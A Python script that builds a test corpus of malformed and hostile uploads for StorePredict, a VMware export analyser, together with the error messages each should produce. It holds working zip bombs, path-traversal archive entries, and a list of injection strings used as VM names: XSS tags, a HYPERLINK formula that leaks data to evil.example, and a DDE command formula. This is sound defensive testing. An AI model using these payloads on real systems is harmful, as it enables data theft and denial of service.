"""Generate the corpus of broken and hostile uploads listed in README.md (no binary is kept).

`build_corpus(directory)` writes the inputs StorePredict must refuse, each with the error class and
the exact message a user sees; `build_loadable(directory)` writes odd inputs it must load intact.
Run `python tests/data/bad/make_corpus.py OUTDIR` to write both sets for trying them in the UI.
"""

from __future__ import annotations

import codecs
import io
import json
import random
import struct
import sys
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from xml.sax.saxutils import escape

from storepredict.pipeline.errors import (
    CorruptWorkbookError,
    EmptyFileError,
    EmptyZipError,
    FileTooLargeError,
    InputError,
    LegacyExcelError,
    MissingColumnsError,
    SessionArchiveError,
    StorePredictError,
    UnknownFormatError,
    UnsafeZipError,
)
from storepredict.pipeline.session.archive import save_session_zip
from storepredict.pipeline.session.open import open_files

try:
    from tests.factory import write_workbook
except ModuleNotFoundError:  # run as a script: the repository root is three folders up
    sys.path.insert(0, str(Path(__file__).resolve().parents[3]))
    from tests.factory import write_workbook

MIB = 1024 * 1024
RVTOOLS_HEADER = ["VM", "Powerstate", "CPUs", "Memory", "Provisioned MiB", "In Use MiB"]
LIVEOPTICS_HEADER = [
    "MOB ID",
    "VM Name",
    "Power State",
    "Virtual Disk Size (MiB)",
    "Virtual Disk Used (MiB)",
]
HOSTILE_NAMES = (
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\u202egpj.exe",  # right-to-left override
    "שרת-קבצים-01",  # Hebrew
    "خادم-البريد",  # Arabic
    "db-😀-🚀-👩\u200d👩\u200d👧",  # emoji with zero-width joiners
    "tab\tinside",
    "  spaced  name  ",
)
REFUSED = "Upload the export itself, or re-create the zip from its folder."  # unsafe entry names
RESTORE = "Restore an unmodified copy of the archive, or start again from the original exports."
NOT_RECOGNISED = (
    "is not an Excel workbook, CSV or zip we recognise: upload an RVTools or LiveOptics export "
    "(.xlsx, .csv or .zip)."
)
DAMAGED_ZIP = (
    "is a damaged or truncated zip archive (.zip or .xlsx): download or export it again, then "
    "re-upload it."
)


@dataclass(frozen=True)
class BadCase:
    """An upload StorePredict must refuse: its files, the error class and the exact message."""

    name: str
    about: str
    files: tuple[Path, ...]
    error: type[StorePredictError]
    message: str
    env: dict[str, str] = field(default_factory=dict)
    """STOREPREDICT_* variables (small limits) the case is meant to be opened under."""


@dataclass(frozen=True)
class LoadableCase:
    """An odd upload StorePredict must load: the VM names it must keep and the findings it gives."""

    name: str
    about: str
    files: tuple[Path, ...]
    vm_names: tuple[str, ...]
    finding_codes: tuple[str, ...]


# --- building blocks ------------------------------------------------------------------------------


def rvtools_workbook(
    rows: Sequence[Sequence[object]], header: Sequence[str] = RVTOOLS_HEADER
) -> bytes:
    """A minimal RVTools export: a vInfo sheet with the given rows under `header`."""
    return write_workbook({"vInfo": [list(header), *map(list, rows)]})


def liveoptics_workbook(
    rows: Sequence[Sequence[object]], header: Sequence[str] = LIVEOPTICS_HEADER
) -> bytes:
    """A minimal LiveOptics VMware export: VMs sheet plus the ESX Hosts companion sheet."""
    return write_workbook({"VMs": [list(header), *map(list, rows)], "ESX Hosts": [["Host Name"]]})


def zip_of(entries: Sequence[tuple[str, bytes]], stored: bool = False) -> bytes:
    """A zip of the (entry name, bytes) pairs, deflated at the highest level unless `stored`."""
    buffer = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in entries:
            info = zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0))  # fixed date: same bytes each run
            archive.writestr(info, content, method, None if stored else 9)
    return buffer.getvalue()


def rezip(archive: bytes, replace: dict[str, bytes | None]) -> bytes:
    """The archive with entries replaced (None drops one, a new name adds one), order kept."""
    with zipfile.ZipFile(io.BytesIO(archive)) as source:
        entries = [(info.filename, source.read(info)) for info in source.infolist()]
    kept = [(n, replace.get(n, data)) for n, data in entries if replace.get(n, data) is not None]
    added = [
        (n, data) for n, data in replace.items() if data is not None and n not in dict(entries)
    ]
    return zip_of(kept + added)


def with_cell_text(workbook: bytes, placeholder: str, text: str) -> bytes:
    """The workbook with an inline-string cell's text replaced, past what openpyxl lets one write
    (it cuts cells at Excel's 32,767 characters)."""
    sheet = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(io.BytesIO(workbook)) as opened:
        xml = opened.read(sheet).decode()
    assert xml.count(f"<t>{placeholder}</t>") == 1
    return rezip(workbook, {sheet: xml.replace(placeholder, escape(text)).encode()})


def zip_with_an_unnamed_entry(content: bytes) -> bytes:
    """A zip whose only entry has an empty name (zipfile cannot write one, so bytes are patched)."""
    data = bytearray(zip_of([("x", content)]))
    central = data.index(b"PK\x01\x02")
    struct.pack_into("<H", data, central + 28, 0)  # file name length
    del data[central + 46]  # the name "x"
    end = data.index(b"PK\x05\x06")
    struct.pack_into("<I", data, end + 12, struct.unpack_from("<I", data, end + 12)[0] - 1)
    return bytes(data)


def zip_needing_version(content: bytes, version: int) -> bytes:
    """A zip of `content` whose central directory says version `version` / 10 is needed to extract
    it (zipfile handles up to 6.3)."""
    data = bytearray(zip_of([("export.xlsx", content)]))
    struct.pack_into("<H", data, data.index(b"PK\x01\x02") + 6, version)
    return bytes(data)


def lie_about_size(archive: bytes, declared: int) -> bytes:
    """The single-entry archive with its local and central headers declaring `declared` bytes."""
    data = bytearray(archive)
    local = data.index(b"PK\x03\x04")
    struct.pack_into("<I", data, local + 22, declared)
    central = data.index(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, declared)
    return bytes(data)


def compression_ratio(archive: bytes, entry: str) -> float:
    """Declared uncompressed size over compressed size of one entry, as its headers say."""
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        info = opened.getinfo(entry)
    return info.file_size / info.compress_size


def overall_ratio(archive: bytes) -> float:
    """Declared uncompressed over compressed size, summed over every entry."""
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        infos = opened.infolist()
    return sum(i.file_size for i in infos) / sum(i.compress_size for i in infos)


def random_bytes(seed: int, size: int) -> bytes:
    """Reproducible noise that starts with no magic number StorePredict knows and holds a NUL."""
    content = random.Random(seed).randbytes(size)
    assert not content.startswith((b"PK", b"\xd0\xcf")) and b"\x00" in content[:4096]
    return content


# --- OLE compound files (.xls and password-protected .xlsx) ---------------------------------------

_SECTOR = 512
_END, _FAT_SECTOR, _NONE = 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def compound_file(streams: Sequence[tuple[str, bytes]]) -> bytes:
    """A minimal but well-formed OLE compound file (CFB v3) holding root-level streams.

    Streams must be at least 4096 bytes (so they live in regular sectors, not the mini stream);
    sector 0 is the FAT, sector 1 the directory, the streams follow.
    """
    streams = sorted(streams, key=lambda s: (len(s[0]), s[0].upper()))  # directory sort order
    assert len(streams) <= 3 and all(len(content) >= 4096 for _, content in streams)
    fat, sectors, entries = [_FAT_SECTOR, _END], [], []
    for index, (name, content) in enumerate(streams):
        count = -(-len(content) // _SECTOR)
        start = len(fat)
        fat += [*range(start + 1, start + count), _END]
        sectors.append(content.ljust(count * _SECTOR, b"\0"))
        right = index + 2 if index + 1 < len(streams) else _NONE
        entries.append(_directory_entry(name, 2, right=right, start=start, size=len(content)))
    root = _directory_entry("Root Entry", 5, child=1 if streams else _NONE, start=_END, size=0)
    unused = _directory_entry("", 0, start=0, size=0)
    directory = b"".join([root, *entries, *[unused] * (3 - len(entries))])
    header = (
        bytes.fromhex("D0CF11E0A1B11AE1")
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<9I", 0, 1, 1, 0, 4096, _END, 0, _END, 0)
        + struct.pack("<I", 0)
        + b"\xff" * (4 * 108)
    )
    fat_sector = b"".join(struct.pack("<I", v) for v in fat).ljust(_SECTOR, b"\xff")
    return header + fat_sector + directory + b"".join(sectors)


def _directory_entry(
    name: str, kind: int, *, right: int = _NONE, child: int = _NONE, start: int, size: int
) -> bytes:
    encoded = (name + "\0").encode("utf-16-le") if name else b""
    return (
        encoded.ljust(64, b"\0")
        + struct.pack("<HBB", len(encoded), kind, 1 if name else 0)
        + struct.pack("<III", _NONE, right, child)
        + bytes(36)
        + struct.pack("<IQ", start, size)
    )


def encrypted_xlsx() -> bytes:
    """What Excel writes for a password-protected .xlsx: EncryptionInfo + EncryptedPackage."""
    info = struct.pack("<HHI", 4, 4, 0x40) + random.Random(7).randbytes(4088)  # agile, v4.4
    return compound_file([("EncryptionInfo", info), ("EncryptedPackage", random_bytes(8, 8192))])


def legacy_xls() -> bytes:
    """A BIFF8 workbook container: a compound file with a `Workbook` stream."""
    bof = struct.pack("<HHHH", 0x0809, 16, 0x0600, 0x0005) + bytes(12)  # BIFF8 BOF record
    return compound_file([("Workbook", bof.ljust(4096, b"\0"))])


# --- session archives -----------------------------------------------------------------------------


def session_archive() -> tuple[bytes, str]:
    """A real saved session of a two-VM RVTools export, and the original's stored name."""
    name = "estate.xlsx"
    export = rvtools_workbook([["app01", "poweredOn", 2, 4096, 1000, 500]])
    state, originals, _ = open_files([(name, export)])
    return save_session_zip(state, originals), name


def session_json(archive: bytes) -> dict:
    """The parsed session.json of an archive."""
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        return json.loads(opened.read("session.json"))


def _flip_last_byte(content: bytes) -> bytes:
    return content[:-1] + bytes([content[-1] ^ 0xFF])


# --- the corpus -----------------------------------------------------------------------------------

Writer = Callable[[str, bytes], Path]


def build_corpus(directory: Path) -> list[BadCase]:
    """Write every refused input into `directory` and describe what must happen to each."""
    directory.mkdir(parents=True, exist_ok=True)

    def write(file_name: str, content: bytes) -> Path:
        path = directory / file_name
        path.write_bytes(content)
        return path

    return [
        *_file_level_cases(write),
        *_workbook_cases(write),
        *_csv_cases(write),
        *_zip_cases(write),
        *_session_cases(write),
    ]


def _file_level_cases(write: Writer) -> list[BadCase]:
    good = rvtools_workbook([["app01", "poweredOn", 2, 4096, 1000, 500]])
    cases = [
        BadCase(
            "empty-file",
            "zero bytes",
            (write("empty.xlsx", b""),),
            EmptyFileError,
            "empty.xlsx is empty (0 bytes): export it again and re-upload.",
        ),
    ]
    for seed, suffix in enumerate(("xlsx", "zip", "csv"), start=1):
        cases.append(
            BadCase(
                f"random-bytes-{suffix}",
                f"4 KiB of random bytes named .{suffix}",
                (write(f"random.{suffix}", random_bytes(seed, 4096)),),
                UnknownFormatError,
                f"random.{suffix} {NOT_RECOGNISED}",
            )
        )
    return [
        *cases,
        BadCase(
            "zip-magic-then-noise",
            "a zip local-header signature followed by random bytes",
            (write("noise.zip", b"PK\x03\x04" + random_bytes(4, 4096)),),
            CorruptWorkbookError,
            f"noise.zip {DAMAGED_ZIP}",
        ),
        BadCase(
            "truncated-xlsx",
            "the first half of a valid RVTools workbook (no central directory)",
            (write("truncated.xlsx", good[: len(good) // 2]),),
            CorruptWorkbookError,
            f"truncated.xlsx {DAMAGED_ZIP}",
        ),
        BadCase(
            "truncated-zip",
            "a zip holding an RVTools workbook, cut 100 bytes before its end",
            (write("truncated.zip", zip_of([("export.xlsx", good)])[:-100]),),
            CorruptWorkbookError,
            f"truncated.zip {DAMAGED_ZIP}",
        ),
        BadCase(
            "password-protected-xlsx",
            "an OLE compound file with EncryptionInfo/EncryptedPackage streams",
            (write("protected.xlsx", encrypted_xlsx()),),
            CorruptWorkbookError,
            "protected.xlsx is password-protected: open it in Excel, remove the password "
            "(File > Info > Protect Workbook) and save it again as .xlsx.",
        ),
        BadCase(
            "legacy-xls",
            "an OLE compound file with a BIFF8 Workbook stream",
            (write("legacy.xls", legacy_xls()),),
            LegacyExcelError,
            "legacy.xls is a legacy Excel 97-2003 (.xls) workbook: open it in Excel and save it "
            "as .xlsx, then upload it again.",
        ),
        BadCase(
            "over-upload-limit",
            "a valid workbook over a 0.001 MB upload limit",
            (write("big.xlsx", good),),
            FileTooLargeError,
            f"big.xlsx is {len(good):,} bytes, over the upload limit of 0.001 MB: upload a "
            "smaller export (RVTools can leave out unused tabs) or zip it.",
            {"STOREPREDICT_MAX_UPLOAD_MB": "0.001"},
        ),
        BadCase(
            "byte-identical-exports",
            "the same RVTools workbook uploaded twice under two names",
            (write("rv-a.xlsx", good), write("rv-b.xlsx", good)),
            InputError,
            "rv-b.xlsx is the same file as rv-a.xlsx (byte-identical): upload each export once.",
        ),
        BadCase(
            "more-files-than-the-limit",
            "three valid RVTools workbooks under a limit of two files per upload",
            tuple(write(f"vc-{n}.xlsx", vcenter_workbook(n)) for n in (1, 2, 3)),
            InputError,
            "3 files were given, more than the limit of 2 per upload: upload at most 2 exports "
            "at once.",
            {"STOREPREDICT_MAX_FILES": "2"},
        ),
        BadCase(
            "one-unreadable-among-several",
            "two valid RVTools workbooks and a third one cut in half",
            (
                write("vc-1.xlsx", vcenter_workbook(1)),
                write("vc-2.xlsx", vcenter_workbook(2)),
                write("vc-3-cut.xlsx", vcenter_workbook(3)[:2000]),
            ),
            CorruptWorkbookError,
            f"vc-3-cut.xlsx {DAMAGED_ZIP} Nothing was loaded: fix or leave out vc-3-cut.xlsx, "
            "then upload the files again.",
        ),
    ]


def vcenter_workbook(n: int) -> bytes:
    """A one-VM RVTools workbook of vCenter number `n`."""
    header = ["VM", "Powerstate", "Provisioned MiB", "VM UUID", "VI SDK Server"]
    return rvtools_workbook([[f"app{n}", "poweredOn", 1000 * n, f"uuid-{n}", f"vc{n}"]], header)


def _workbook_cases(write: Writer) -> list[BadCase]:
    broken_sheet = rezip(
        rvtools_workbook([["app01", "poweredOn", 2, 4096, 1000, 500]]),
        {"xl/worksheets/sheet1.xml": b'<?xml version="1.0"?><worksheet><sheetData><row r="1"><c'},
    )
    missing = "Export vInfo again from RVTools without removing these columns."
    return [
        BadCase(
            "damaged-sheet-xml",
            "a workbook whose vInfo sheet XML stops mid-tag",
            (write("damaged-sheet.xlsx", broken_sheet),),
            CorruptWorkbookError,
            "Sheet 'vInfo' of damaged-sheet.xlsx could not be read: export the file again.",
        ),
        BadCase(
            "no-vinfo-or-vms-sheet",
            "an ordinary workbook with neither vInfo nor VMs",
            (write("budget.xlsx", write_workbook({"Summary": [["a"]], "Servers": [["b"]]})),),
            UnknownFormatError,
            "budget.xlsx is an Excel workbook but not an RVTools or LiveOptics export: its sheets "
            "are 'Summary', 'Servers'. Expected a 'vInfo' sheet (RVTools) or a 'VMs' sheet "
            "(LiveOptics VMware).",
        ),
        BadCase(
            "sheet-name-with-newline",
            "a workbook whose first sheet name holds a line break",
            (
                write(
                    "newline-sheet.xlsx", write_workbook({"Sum\nmary": [["a"]], "Servers": [["b"]]})
                ),
            ),
            UnknownFormatError,
            "newline-sheet.xlsx is an Excel workbook but not an RVTools or LiveOptics export: its "
            "sheets are 'Sum?mary', 'Servers'. Expected a 'vInfo' sheet (RVTools) or a 'VMs' sheet "
            "(LiveOptics VMware).",
        ),
        BadCase(
            "vinfo-header-with-newline",
            "vInfo headers with line breaks inside (`VM<LF>Name`)",
            (
                write(
                    "newline-header.xlsx",
                    rvtools_workbook([["a", 1]], ["VM\nName", "Provisioned\nMiB"]),
                ),
            ),
            MissingColumnsError,
            "The vInfo sheet of newline-header.xlsx lacks the column(s) VM (found: VM Name, "
            f"Provisioned MiB). {missing}",
        ),
        BadCase(
            "vinfo-no-rows",
            "vInfo with its header row only",
            (write("vinfo-empty.xlsx", rvtools_workbook([])),),
            EmptyFileError,
            "The vInfo sheet of vinfo-empty.xlsx has no VM rows: export it again from RVTools "
            "with the vCenter connected.",
        ),
        BadCase(
            "vinfo-rows-without-names",
            "vInfo rows with capacities but a blank VM column",
            (
                write(
                    "vinfo-unnamed.xlsx",
                    rvtools_workbook([[None, "poweredOn", 2, 4096, 1000, 500], ["  ", "x", 1]]),
                ),
            ),
            EmptyFileError,
            "The vInfo sheet of vinfo-unnamed.xlsx has 2 row(s) but none with a VM name: export "
            "it again from RVTools with the vCenter connected.",
        ),
        BadCase(
            "vinfo-missing-vm-column",
            "vInfo without its VM column",
            (
                write(
                    "no-vm-column.xlsx",
                    rvtools_workbook([["on", 1000]], ["Powerstate", "Provisioned MiB"]),
                ),
            ),
            MissingColumnsError,
            "The vInfo sheet of no-vm-column.xlsx lacks the column(s) VM (found: Powerstate, "
            f"Provisioned MiB). {missing}",
        ),
        BadCase(
            "vinfo-missing-capacity-columns",
            "vInfo without Provisioned or In Use columns",
            (write("no-capacity.xlsx", rvtools_workbook([["app01", 2]], ["VM", "CPUs"])),),
            MissingColumnsError,
            "The vInfo sheet of no-capacity.xlsx lacks the column(s) Provisioned MiB or In Use "
            f"MiB (found: VM, CPUs). {missing}",
        ),
        BadCase(
            "liveoptics-no-rows",
            "a LiveOptics VMs sheet with its header row only",
            (write("lo-empty.xlsx", liveoptics_workbook([])),),
            EmptyFileError,
            "The 'VMs' data of lo-empty.xlsx has no VM rows: export the VMware project again "
            "from LiveOptics once the collector has seen the vCenter.",
        ),
        BadCase(
            "liveoptics-missing-capacity-columns",
            "a LiveOptics VMs sheet without the virtual disk columns",
            (
                write(
                    "lo-no-capacity.xlsx",
                    liveoptics_workbook([["vm-1", "app01"]], ["MOB ID", "VM Name"]),
                ),
            ),
            MissingColumnsError,
            "The 'VMs' data of lo-no-capacity.xlsx lacks the column(s) Virtual Disk Size (MiB), "
            "Virtual Disk Used (MiB) (MB or MiB labels both work): export the VMware project "
            "again from LiveOptics.",
        ),
    ]


def _csv_cases(write: Writer) -> list[BadCase]:
    text = "VM Name,Virtual Disk Size (MiB),Virtual Disk Used (MiB)\r\napp01,1024,512\r\n"
    ragged = text + "app02,1024,512,extra,fields\r\n"
    return [
        BadCase(
            "csv-utf16-without-bom",
            "a LiveOptics CSV in UTF-16-LE with no byte-order mark (NULs everywhere)",
            (write("utf16-no-bom.csv", text.encode("utf-16-le")),),
            UnknownFormatError,
            f"utf16-no-bom.csv {NOT_RECOGNISED}",
        ),
        BadCase(
            "csv-ragged-rows",
            "a LiveOptics CSV with a row longer than its header",
            (write("ragged.csv", ragged.encode()),),
            InputError,
            "ragged.csv could not be read as CSV (rows have a different number of fields than "
            "the header): save the LiveOptics VMs sheet again as CSV and re-upload it.",
        ),
    ]


def _zip_cases(write: Writer) -> list[BadCase]:
    export = rvtools_workbook([["app01", "poweredOn", 2, 4096, 1000, 500]])
    bomb = zip_of([("export.xlsx", b"PK" + bytes(16 * MIB))])
    nested = zip_of([("inner.zip", bomb)], stored=True)
    spread = zip_of([(f"part{i:02}.csv", bytes(MIB - 1)) for i in range(32)])
    deep = zip_of([("middle.zip", zip_of([("inner.zip", zip_of([("export.xlsx", export)]))]))])
    lying = lie_about_size(zip_of([("export.xlsx", b"PK" + bytes(4 * MIB))]), 1000)
    names = [
        ("dotdot", "../../evil.xlsx", "climbs out of the archive with '..'"),
        ("absolute", "/etc/cron.d/evil.xlsx", "is an absolute path"),
        ("backslash", "..\\evil.xlsx", "contains a backslash"),
        ("drive-letter", "C:/Windows/evil.xlsx", "starts with a drive letter"),
    ]
    ratio = "more than the limit of 200 to 1 (a zip bomb?). Upload the export itself."
    cases = [
        BadCase(
            f"zip-entry-{key}",
            f"a zip whose entry is named {entry!r}",
            (write(f"zip-{key}.zip", zip_of([(entry, export)])),),
            UnsafeZipError,
            f"zip-{key}.zip was refused: the entry name '{entry}' {reason}. {REFUSED}",
        )
        for key, entry, reason in names
    ]
    return [
        *cases,
        BadCase(
            "zip-entry-empty-name",
            "a zip whose only entry has an empty name",
            (write("zip-unnamed.zip", zip_with_an_unnamed_entry(export)),),
            UnsafeZipError,
            f"zip-unnamed.zip was refused: the entry name '' is empty. {REFUSED}",
        ),
        BadCase(
            "zip-bomb-over-size-limit",
            "2 MiB of zeros in a 2 KiB zip, under a 1 MiB unpacked-size limit",
            (write("bomb-size.zip", zip_of([("export.csv", bytes(2 * MIB))])),),
            UnsafeZipError,
            "bomb-size.zip would unpack to 2.1 MB, more than the limit of 1.0 MB: upload the "
            "export itself.",
            {"STOREPREDICT_MAX_ZIP_MIB": "1"},
        ),
        BadCase(
            "zip-bomb-ratio",
            "one 16 MiB entry of zeros deflated about 1000 to 1",
            (write("bomb-ratio.zip", bomb),),
            UnsafeZipError,
            f"bomb-ratio.zip was refused: the entry 'export.xlsx' is compressed "
            f"{compression_ratio(bomb, 'export.xlsx'):.0f} to 1, {ratio}",
        ),
        BadCase(
            "zip-bomb-nested",
            "the ratio bomb stored inside another zip",
            (write("bomb-nested.zip", nested),),
            UnsafeZipError,
            f"bomb-nested.zip/inner.zip was refused: the entry 'export.xlsx' is compressed "
            f"{compression_ratio(bomb, 'export.xlsx'):.0f} to 1, {ratio}",
        ),
        BadCase(
            "zip-bomb-many-small-entries",
            "32 entries of 1 MiB - 1 byte of zeros: each under the per-entry floor",
            (write("bomb-spread.zip", spread),),
            UnsafeZipError,
            f"bomb-spread.zip was refused: it is compressed {overall_ratio(spread):.0f} to 1 "
            f"overall, {ratio}",
        ),
        BadCase(
            "zip-lying-size-header",
            "an entry that declares 1,000 bytes but inflates to 4 MiB",
            (write("lying.zip", lying),),
            CorruptWorkbookError,
            "The zip entry 'export.xlsx' is damaged (or uses an unsupported compression method): "
            "create the zip again, or upload the export itself.",
        ),
        BadCase(
            "zip-nested-too-deep",
            "a zip in a zip in a zip",
            (write("deep.zip", deep),),
            UnsafeZipError,
            "deep.zip/middle.zip nests zip archives more than 2 levels deep ('inner.zip'): unzip "
            "it and upload the export itself.",
        ),
        BadCase(
            "zip-thousands-of-entries",
            "3,000 one-byte entries",
            (write("many.zip", zip_of([(f"f{i}.txt", b"x") for i in range(3000)])),),
            UnsafeZipError,
            "many.zip holds 3000 entries, more than the limit of 2000: upload the export itself, "
            "or a zip holding only it.",
        ),
        BadCase(
            "zip-without-export",
            "a zip of a text file and a picture",
            (write("photos.zip", zip_of([("readme.txt", b"hi"), ("img/cat.jpg", b"\xff\xd8")])),),
            EmptyZipError,
            "photos.zip holds no RVTools or LiveOptics export; it contains 'readme.txt', "
            "'img/cat.jpg'. Upload the .xlsx export itself, or a zip that contains it.",
        ),
    ]


def _session_cases(write: Writer) -> list[BadCase]:
    archive, original = session_archive()
    document = session_json(archive)

    def edited(**changes: object) -> bytes:
        return rezip(archive, {"session.json": json.dumps({**document, **changes}).encode()})

    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        original_bytes = opened.read(original)
    return [
        BadCase(
            "session-invalid-json",
            "session.json cut off in the middle",
            (
                write(
                    "session-bad-json.zip",
                    rezip(archive, {"session.json": b'{"schema_version": 1, "state": '}),
                ),
            ),
            SessionArchiveError,
            "session.json is not valid JSON (Expecting value at line 1, column 32). " + RESTORE,
        ),
        BadCase(
            "session-wrong-schema",
            "session.json whose project name is a list",
            (
                write(
                    "session-wrong-schema.zip",
                    edited(state={**document["state"], "project_name": ["x"]}),
                ),
            ),
            SessionArchiveError,
            "session.json is not a valid session. Invalid session field 'state.project_name': "
            f"must be text. {RESTORE}",
        ),
        BadCase(
            "session-not-an-object",
            "session.json holding a JSON list",
            (write("session-list.zip", rezip(archive, {"session.json": b"[1, 2, 3]"})),),
            SessionArchiveError,
            "session.json must hold a JSON object with 'schema_version' and 'state', not a list. "
            + RESTORE,
        ),
        BadCase(
            "session-schema-version-4",
            "an archive from a future StorePredict",
            (write("session-v4.zip", edited(schema_version=4)),),
            SessionArchiveError,
            "This archive was made by a newer StorePredict (schema 4); this version reads up to "
            "3. Update StorePredict to open it.",
        ),
        BadCase(
            "session-missing-original",
            "the original export removed from the archive",
            (write("session-no-original.zip", rezip(archive, {original: None})),),
            SessionArchiveError,
            f"The archive has no original export '{original}', which session.json lists. {RESTORE}",
        ),
        BadCase(
            "session-altered-original",
            "one byte of the original export changed (same size, other SHA-256)",
            (
                write(
                    "session-altered.zip",
                    rezip(archive, {original: _flip_last_byte(original_bytes)}),
                ),
            ),
            SessionArchiveError,
            f"The original export '{original}' does not match the SHA-256 recorded in "
            f"session.json: the archive was damaged or edited. {RESTORE}",
        ),
        BadCase(
            "session-json-over-limit",
            "a real session archive opened under a 0.001 MiB session.json limit",
            (write("session-big-json.zip", archive),),
            SessionArchiveError,
            "session.json is larger than 1,048 bytes, the limit for a session archive, so it was "
            "not opened. Choose the .zip that StorePredict saved, or ask an administrator to raise "
            "STOREPREDICT_MAX_SESSION_JSON_MIB.",
            {"STOREPREDICT_MAX_SESSION_JSON_MIB": "0.001"},
        ),
        BadCase(
            "session-over-upload-limit",
            "a real session archive over a 0.001 MB upload limit",
            (write("session-big.zip", archive),),
            FileTooLargeError,
            f"session-big.zip is {len(archive):,} bytes, over the upload limit of 0.001 MB: "
            "upload a smaller export (RVTools can leave out unused tabs) or zip it.",
            {"STOREPREDICT_MAX_UPLOAD_MB": "0.001"},
        ),
    ]


# --- inputs that must load ------------------------------------------------------------------------


def build_loadable(directory: Path) -> list[LoadableCase]:
    """Write the odd inputs that must load into `directory`, with what they must load as."""
    directory.mkdir(parents=True, exist_ok=True)

    def write(file_name: str, content: bytes) -> Path:
        path = directory / file_name
        path.write_bytes(content)
        return path

    long_name = "L" * 99_999 + "!"
    long_row = rvtools_workbook([["PLACEHOLDER", "poweredOn", 2, 4096, 10, 5]])
    hostile = [[name, "poweredOn", 1, 1024, 100, 50] for name in HOSTILE_NAMES]
    csv_text = (
        "VM Name\tVirtual Disk Size (MiB)\tVirtual Disk Used (MiB)\r\nsrv-ü-01\t1024\t512\r\n"
    )
    lo_export = liveoptics_workbook([["vm-1", "app01", "poweredOn", 1024, 512]])
    lo_zip = zip_of(
        [
            ("LiveOptics_42/LiveOptics_42_VMWARE_01_02_2024.xlsx", lo_export),
            ("LiveOptics_42/session.json", json.dumps({"schema_version": 1}).encode()),
        ]
    )
    rv_extra = ("vpartition_missing", "vhost_missing")
    return [
        LoadableCase(
            "long-vm-name",
            "a VM name of 100,000 characters",
            (write("long-name.xlsx", with_cell_text(long_row, "PLACEHOLDER", long_name)),),
            (long_name,),
            rv_extra,
        ),
        LoadableCase(
            "hostile-vm-names",
            "VM names with HTML, script, formulas, right-to-left text and emoji",
            (write("hostile-names.xlsx", rvtools_workbook(hostile)),),
            tuple(name.strip() for name in HOSTILE_NAMES),
            rv_extra,
        ),
        LoadableCase(
            "hostile-vm-names-liveoptics",
            "the same names in a LiveOptics export",
            (
                write(
                    "hostile-names-lo.xlsx",
                    liveoptics_workbook(
                        [[f"vm-{i}", n, "poweredOn", 10, 5] for i, n in enumerate(HOSTILE_NAMES)]
                    ),
                ),
            ),
            tuple(name.strip() for name in HOSTILE_NAMES),
            ("no_performance",),
        ),
        LoadableCase(
            "non-numeric-capacities",
            "capacity cells holding 'n/a' and 'lots'",
            (
                write(
                    "non-numeric.xlsx",
                    rvtools_workbook(
                        [
                            ["text-vm", "poweredOn", 2, 4096, "n/a", "lots"],
                            ["ok-vm", "poweredOn", 2, 4096, 10, 5],
                        ]
                    ),
                ),
            ),
            ("text-vm", "ok-vm"),
            ("no_capacity_data", "unreadable_numbers", *rv_extra),
        ),
        LoadableCase(
            "negative-capacities",
            "negative Provisioned and In Use values",
            (
                write(
                    "negative.xlsx",
                    rvtools_workbook(
                        [
                            ["neg-vm", "poweredOn", 2, 4096, -1000, -500],
                            ["ok-vm", "poweredOn", 2, 4096, 10, 5],
                        ]
                    ),
                ),
            ),
            ("neg-vm", "ok-vm"),
            ("negative_numbers", "no_capacity_data", *rv_extra),
        ),
        LoadableCase(
            "csv-utf16-le-bom",
            "the LiveOptics VMs sheet saved by Excel as Unicode text (UTF-16-LE, BOM, tabs)",
            (write("utf16-le.csv", codecs.BOM_UTF16_LE + csv_text.encode("utf-16-le")),),
            ("srv-ü-01",),
            ("no_performance", "unknown_power_state"),
        ),
        LoadableCase(
            "csv-utf16-be-bom",
            "the same CSV in UTF-16-BE with its BOM",
            (write("utf16-be.csv", codecs.BOM_UTF16_BE + csv_text.encode("utf-16-be")),),
            ("srv-ü-01",),
            ("no_performance", "unknown_power_state"),
        ),
        LoadableCase(
            "liveoptics-zip-with-session-json-in-folder",
            "a LiveOptics portal zip that also holds a folder/session.json: not a session",
            (write("LiveOptics_42.zip", lo_zip),),
            ("app01",),
            ("no_performance",),
        ),
    ]


def main(argv: Sequence[str]) -> int:
    """Write the corpus into the folder given as the only argument."""
    if len(argv) != 1:
        print("usage: python tests/data/bad/make_corpus.py OUTDIR", file=sys.stderr)
        return 2
    out = Path(argv[0])
    refused = build_corpus(out / "refused")
    loadable = build_loadable(out / "loadable")
    for case in refused:
        env = " ".join(f"{k}={v}" for k, v in case.env.items())
        print(f"refused/{case.files[0].name}: {case.about}" + (f" (with {env})" if env else ""))
    for case in loadable:
        print(f"loadable/{case.files[0].name}: {case.about}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
